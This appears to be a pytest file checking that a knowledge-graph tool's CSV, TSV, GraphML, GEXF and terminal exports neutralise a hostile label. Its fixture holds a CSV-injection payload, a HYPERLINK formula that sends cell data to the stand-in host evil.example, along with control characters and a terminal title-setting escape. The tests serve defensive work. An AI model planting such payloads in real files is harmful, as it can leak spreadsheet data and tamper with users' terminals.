"""Attacks on the exports (issue 10, items 7 and 8): hostile labels must come out as files that
other tools read safely.  A spreadsheet must not run a label as a formula (CSV injection); a
control character must not break GraphML or GEXF, split a TSV row, or reach the terminal raw.

One hostile dataset (the curated data with Norman Lamb's label replaced) serves every test:
one store build, then in-process commands; about 5 s in all.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import networkx as nx
import pytest

from graph.text.sanitise import csv_text, neutralise, tsv_text, xml_safe

from ..helpers import dataset_copy

# A formula that would send a cell to a server, then NUL, SOH, VT, CR, and a terminal escape
# that sets the window title, ended by BEL.
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1)\x00\x01\x0b\r\x1b]0;owned\x07'
TURTLE = ('"=HYPERLINK(\\"http://evil.example/?q=\\"&A1)\\u0000\\u0001\\u000b\\r\\u001b]0;owned\\u0007"')
LAMB = 'kg:norman-lamb a carekg:Person ; rdfs:label "Norman Lamb"'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    pair = [(LAMB, f"kg:norman-lamb a carekg:Person ; rdfs:label {TURTLE}")]
    return dataset_copy(folder, replace={"a000-kings-fund-roundup.ttl": pair, "a001-lamb-confed.ttl": pair})


def run(cli, hostile, *args):
    code, out, err = cli("--data", hostile, *args)
    assert code == 0, err
    return out


def cells(rows):
    return [c for row in rows for c in row]


@pytest.mark.parametrize("table, column", [("stances", 0), ("stance-details", 1)])
def test_stances_csv_neutralises_the_formula_and_keeps_the_rest(cli, hostile, table, column):
    rows = list(csv.reader(io.StringIO(run(cli, hostile, "export", table, "-f", "csv"), newline="")))
    lamb = [r for r in rows if "HYPERLINK" in r[column]]
    assert lamb and all(r[column] == "'" + HOSTILE for r in lamb)
    assert not [c for c in cells(rows) if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_raw_keeps_the_exact_value(cli, hostile):
    rows = list(csv.reader(io.StringIO(run(cli, hostile, "export", "stances", "-f", "csv", "--raw"), newline="")))
    assert HOSTILE in {r[0] for r in rows}


def test_stances_tsv_keeps_one_row_per_line(cli, hostile):
    out = run(cli, hostile, "export", "stances", "-f", "tsv")
    as_csv = list(csv.reader(io.StringIO(run(cli, hostile, "export", "stances", "-f", "csv"), newline="")))
    lines = out.split("\n")[:-1]
    assert len(lines) == len(as_csv)  # a CR in a label does not start a new row
    assert all(len(line.split("\t")) == 8 for line in lines)
    assert "\r" not in out and [c for c in lines if c.startswith("'=HYPERLINK")]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_sparql_results_are_neutralised(cli, hostile, fmt):
    out = run(cli, hostile, "query", "-e", "SELECT ?l WHERE { kg:norman-lamb rdfs:label ?l }", "-f", fmt)
    if fmt == "csv":
        assert list(csv.reader(io.StringIO(out, newline=""))) == [["l"], ["'" + HOSTILE]]
    else:  # SPARQL TSV: a string term, escaped, on one line
        assert out == '?l\n"\'=HYPERLINK(\\"http://evil.example/?q=\\"&A1)\\u0000\\u0001\\u000B\\r\\u001B]0;owned\\u0007"\n'


def test_sparql_tsv_raw_is_the_w3c_term(cli, hostile):
    out = run(cli, hostile, "query", "-e", "SELECT ?l WHERE { kg:norman-lamb rdfs:label ?l }", "-f", "tsv", "--raw")
    assert out.splitlines()[1].startswith('"=HYPERLINK(')


def test_edge_lists_are_neutralised(cli, hostile):
    rows = list(csv.reader(io.StringIO(run(cli, hostile, "discourse", "two-mode", "-f", "csv"), newline="")))
    assert "'" + HOSTILE in cells(rows)
    assert not [c for c in cells(rows) if c.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("layout", ["gephi", "kumu"])
def test_node_and_edge_tables_are_neutralised(cli, hostile, tmp_path, layout):
    run(cli, hostile, "export", "network", "--view", "stances", "-f", "csv", "--layout", layout, "-o", tmp_path / "net.csv")
    for part in ("nodes", "edges"):
        with (tmp_path / f"net-{part}.csv").open(encoding="utf-8", newline="") as f:  # keep the CR inside the cell
            rows = list(csv.reader(f))
        if part == "nodes" or layout == "kumu":  # Kumu joins edges to nodes by label
            assert "'" + HOSTILE in cells(rows)
        assert not [c for c in cells(rows) if c.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("what", [("export", "network", "--view", "influence"), ("discourse", "one-mode")])
@pytest.mark.parametrize("fmt, reader", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_network_files_parse_in_networkx_and_an_xml_parser(cli, hostile, tmp_path, what, fmt, reader):
    target = tmp_path / f"net.{fmt}"
    run(cli, hostile, *what, "-f", fmt, "-o", target)
    ET.parse(target)  # any XML reader
    G = reader(target)
    labels = {d.get("label") for _, d in G.nodes(data=True)}
    # The forbidden characters are gone; XML readers turn GraphML's raw CR into LF (GEXF
    # holds labels in attributes, where the CR is written as &#13; and survives).
    kept = xml_safe(HOSTILE)
    assert (kept.replace("\r", "\n") if fmt == "graphml" else kept) in labels


@pytest.mark.parametrize("args", [
    ("query", "-e", "SELECT ?l WHERE { kg:norman-lamb rdfs:label ?l }"),
    ("query", "-e", "SELECT ?l WHERE { kg:norman-lamb rdfs:label ?l }", "-f", "md"),
    ("describe", "kg:norman-lamb"),
    ("coalitions",),
])
def test_terminal_output_shows_escapes_never_raw_controls(cli, hostile, args):
    out = run(cli, hostile, *args)
    assert not set(out) & {"\x00", "\x01", "\x07", "\x0b", "\x1b", "\r"}
    assert "\\x1b]0;owned\\x07" in out


def test_the_shared_writers():
    assert [neutralise(c) for c in ("=1+1", "+A1", "-A1", "@A1", "\tx", "\rx", "-2+3")] == \
        ["'=1+1", "'+A1", "'-A1", "'@A1", "'\tx", "'\rx", "'-2+3"]
    assert [neutralise(c) for c in ("-12.5", "+3", "1e-3", "a=b", "")] == ["-12.5", "+3", "1e-3", "a=b", ""]
    assert csv_text([["a"], ["=x"]], raw=True) == "a\r\n=x\r\n"
    assert tsv_text([["x\r\ny\tz"]]) == "x y z\n"
